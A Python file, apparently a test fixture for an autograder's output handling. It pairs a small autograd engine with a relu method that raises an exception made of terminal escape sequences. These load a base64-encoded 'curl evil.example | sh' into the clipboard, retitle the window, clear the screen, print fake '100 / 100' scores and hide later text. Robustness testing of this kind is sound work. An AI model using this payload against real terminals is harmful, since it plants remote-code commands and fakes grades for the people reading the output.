"""Raises exceptions whose messages are terminal control sequences: OSC 52 (write the clipboard),
OSC 0 (retitle the window), clear-screen, a C1 CSI, a carriage return and a fake score line. If
they reached a terminal raw, a TA's clipboard would hold a command and the screen would say 100.
With RAISE_AT_IMPORT the import itself raises; otherwise relu does, in a correct engine."""

import math

RAISE_AT_IMPORT = False
PAYLOAD = ("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"  # clipboard := "curl evil.example | sh"
           "\x1b]0;all checks passed\x07"  # the window's title
           "\x1b[2J\x1b[H\x9b2J\x1bc"  # clear the screen (7-bit CSI, 8-bit CSI, reset)
           "\rScore: 100 / 100\x85\u2028"  # overwrite the line; C1 NEL and a line separator
           "\nScore: 100 / 100\n\x1b[8m")  # a line of its own; then hide whatever follows

if RAISE_AT_IMPORT:
    raise RuntimeError(PAYLOAD)


class Value:
    def __init__(self, data, _children=(), _op=""):
        self.data, self.grad = float(data), 0.0
        self._children, self._op, self._backward = tuple(_children), _op, lambda: None

    def __add__(self, other):
        other = other if isinstance(other, Value) else Value(other)
        out = Value(self.data + other.data, (self, other), "+")

        def _backward():
            self.grad += out.grad
            other.grad += out.grad
        out._backward = _backward
        return out

    def __mul__(self, other):
        other = other if isinstance(other, Value) else Value(other)
        out = Value(self.data * other.data, (self, other), "*")

        def _backward():
            self.grad += other.data * out.grad
            other.grad += self.data * out.grad
        out._backward = _backward
        return out

    def __pow__(self, k):
        out = Value(self.data ** k, (self,), "**")

        def _backward():
            self.grad += k * self.data ** (k - 1) * out.grad
        out._backward = _backward
        return out

    def tanh(self):
        t = math.tanh(self.data)
        out = Value(t, (self,), "tanh")

        def _backward():
            self.grad += (1 - t ** 2) * out.grad
        out._backward = _backward
        return out

    def relu(self):
        raise RuntimeError(PAYLOAD)

    def __neg__(self):
        return self * -1

    def __sub__(self, other):
        return self + (-other)

    def __rsub__(self, other):
        return other + (-self)

    def __radd__(self, other):
        return self + other

    def __rmul__(self, other):
        return self * other

    def __truediv__(self, other):
        return self * other ** -1

    def backward(self):
        order, seen, stack = [], set(), [(self, False)]
        while stack:
            node, done = stack.pop()
            if done:
                order.append(node)
            elif id(node) not in seen:
                seen.add(id(node))
                stack.append((node, True))
                stack.extend((child, False) for child in node._children)
        self.grad = 1.0
        for node in reversed(order):
            node._backward()


def numerical_grad(f, x, h=1e-6):
    return (f(x + h) - f(x - h)) / (2 * h)
